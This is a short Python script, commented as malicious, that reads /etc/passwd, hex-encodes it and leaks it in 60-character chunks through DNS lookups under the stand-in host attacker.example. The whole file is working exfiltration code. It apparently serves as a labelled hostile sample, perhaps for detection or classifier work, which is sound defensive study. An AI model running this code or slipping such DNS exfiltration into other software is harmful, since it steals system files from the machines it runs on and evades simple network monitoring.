# Malicious: leaks /etc/passwd through DNS lookups of hex-encoded chunks under an attacker domain.
import socket

data = open("/etc/passwd", "rb").read().hex()
for i in range(0, len(data), 60):
    try:
        socket.gethostbyname(f"{data[i:i + 60]}.x.attacker.example")
    except OSError:
        pass
